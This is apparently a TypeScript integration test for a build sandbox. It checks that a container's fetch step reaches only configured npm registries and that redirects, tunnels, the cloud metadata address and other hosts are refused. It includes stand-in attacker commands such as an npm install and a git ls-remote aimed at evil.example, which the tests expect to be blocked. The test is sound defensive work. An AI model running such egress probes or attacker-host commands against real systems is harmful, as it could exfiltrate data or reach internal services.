/** The fetch step's way out on the real engine: a real package arrives from npm's registry, and nothing else can be reached. */
import { mkdtempSync, readdirSync, readFileSync } from "node:fs";
import { createServer as createHttpServer } from "node:http";
import { createServer, type Server } from "node:net";
import { networkInterfaces } from "node:os";
import { join } from "node:path";
import { noSettings, type RepositorySettings } from "@aedev/contracts";
import Docker from "dockerode";
import { execaSync } from "execa";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ensurePrepared } from "../../src/prepare/prepare.ts";
import { imageReference, type Laboratory, limits, openLaboratory } from "../checks/laboratory.ts";

const runId = "r-abcdefghijklmnop";
const shortLimits = { ...limits, prepare_timeout_ms: 60_000 };
let laboratory: Laboratory;
let imageId: string;
let base: string;
let refused: string[];
let reached: number;
let closed: Server;
let mirror: Server;

beforeAll(async () => {
  laboratory = openLaboratory();
  imageId = (await laboratory.context.docker.image(imageReference, "HOLD-TOOLCHAIN")).id;
  refused = [];
  laboratory.context.refusal = (run, what) => refused.push(`${run} ${what}`);
  base = laboratory.repository("app", {
    "package.json": JSON.stringify({ name: "app", version: "1.0.0", dependencies: { "left-pad": "1.3.0" } }),
    "probe.mjs": readFileSync(new URL("./fetch-probe.mjs", import.meta.url), "utf8"),
  });
  reached = 0;
  closed = createServer((socket) => {
    reached += 1;
    socket.destroy();
  });
  mirror = createHttpServer((incoming, outgoing) => {
    if (incoming.url === "/away") outgoing.writeHead(302, { location: `http://127.0.0.1:${portOf(closed)}/` }).end();
    else outgoing.end("a package");
  });
  // Listens on every interface, so that a container on a bridge would find it too.
  await new Promise<void>((resolve) => closed.listen(0, resolve));
  await new Promise<void>((resolve) => mirror.listen(0, "127.0.0.1", resolve));
});
afterAll(() => {
  closed.close();
  mirror.close();
  laboratory.close();
});

function portOf(server: Server): number {
  const address = server.address();
  return typeof address === "object" && address !== null ? address.port : 0;
}
function prepare(settings: Partial<RepositorySettings>) {
  const whole = { ...noSettings, outputs: ["out"], ...settings };
  const labels = { "aedev.run": runId };
  return ensurePrepared(
    { repository: "app", baseCommit: base, settings: whole, limits: shortLimits, imageId, labels },
    laboratory.context,
  );
}
function unpacked(archivePath: string | null, path: string): string {
  const folder = mkdtempSync(join(laboratory.home, "unpack-"));
  execaSync("tar", ["-xf", archivePath ?? "", "-C", folder]);
  return readFileSync(join(folder, path), "utf8");
}

describe("the fetch step in an image without Node", () => {
  it("has the same way out, through the mounted Node", async () => {
    const tag = `aedev-test-fetch-${process.pid}`;
    const docker = new Docker(process.env.DOCKER_HOST ? undefined : { socketPath: "/var/run/docker.sock" });
    const script = "rm -r /usr/local/bin/node /usr/local/bin/npm /usr/local/bin/claude; git --version >/toolchain";
    const source = await docker.createContainer({
      Image: imageReference,
      Entrypoint: ["/bin/sh", "-c"],
      User: "0",
      Cmd: [script],
      NetworkDisabled: true,
    });
    await source.start();
    await source.wait();
    await source.commit({ repo: tag, tag: "1" });
    await source.remove();
    const own = imageId;
    imageId = (await laboratory.context.docker.image(`${tag}:1`, "HOLD-TOOLCHAIN")).id;
    try {
      const ask = `! command -v node && mkdir out && cp /toolchain out/ && git ls-remote https://registry.npmjs.org/x 2>out/said; true`;
      const { archivePath } = await prepare({ prepare: ask });
      expect(unpacked(archivePath, "out/toolchain")).toContain("git version");
      // Through the proxy the registry itself answered that git finds no repository there.
      expect(unpacked(archivePath, "out/said")).toMatch(/registry\.npmjs\.org.*not found/);
      const { archivePath: other } = await prepare({ prepare: ask.replaceAll("npmjs.org", "evil.example") });
      expect(unpacked(other, "out/said")).toContain("403");
    } finally {
      imageId = own;
      await docker.getImage(`${tag}:1`).remove({ force: true });
    }
  });
});

describe.each(["socket", "exec"] as const)("the fetch step over the %s link", (link) => {
  it("reaches only the configured registries: no other address, name, port, redirect or TLS name", async () => {
    const own = { host: "127.0.0.1", port: portOf(mirror), secure: false, private: true };
    const registries = [...laboratory.context.registries.filter(({ private: is }) => !is), own];
    laboratory.context = { ...laboratory.context, registries, sandboxLink: link };
    refused.length = 0;
    const docker = networkInterfaces()["docker0"]?.find(({ family }) => family === "IPv4")?.address;
    const targets = { closedPort: portOf(closed), mirrorPort: portOf(mirror), gateway: docker ?? "172.17.0.1" };
    const { archivePath } = await prepare({
      // The name keeps the other link's result in the cache from being used.
      prepare: `node probe.mjs '${JSON.stringify(targets)}' # ${link}`,
      inputs: ["probe.mjs"],
    });
    const found = JSON.parse(unpacked(archivePath, "out/probe.json"));
    // The way through, with real TLS to the real registry.
    expect(found).toMatchObject({ honest: "session", mirror: { status: 200 }, redirect: { status: 302 } });
    expect(found).toMatchObject({ interfaces: [], routes: 0, followed: { status: 403 } });
    expect(Object.values(found.raw)).not.toContain("reached");
    expect(new Set(Object.values(found.tunnels))).toEqual(new Set([403]));
    expect(new Set(Object.values(found.plain))).toEqual(new Set([403]));
    expect(found.fronted).not.toBe("session");
    expect(reached).toBe(0);
    expect(refused.some((line) => line.startsWith(`${runId} prepare: 169.254.169.254:80`))).toBe(true);
    expect(refused.some((line) => line.includes("the tunnel is for example.com"))).toBe(true);
  });

  it("installs a real package with npm, and names the host that a failing step was refused", async () => {
    laboratory.context = { ...laboratory.context, sandboxLink: link };
    const settings = { outputs: ["node_modules"] };
    const { archivePath } = await prepare({ ...settings, prepare: `npm install --ignore-scripts # ${link}` });
    expect(unpacked(archivePath, "node_modules/left-pad/package.json")).toContain('"1.3.0"');
    const away = `npm install --registry https://registry.evil.example --fetch-retries 0 # ${link}`;
    await expect(prepare({ ...settings, prepare: away })).rejects.toMatchObject({
      code: "HOLD-PREPARE-FAILED",
      detail: expect.stringContaining("registry.evil.example:443 is not one of the configured registries"),
      hint: expect.stringContaining("prepare.registries"),
    });
    const { context, home } = laboratory;
    expect(await context.docker.list({ "aedev.home": context.homeId })).toEqual([]);
    expect(readdirSync(join(home, "run")).filter((name) => name.startsWith("p-"))).toEqual([]);
  });
});
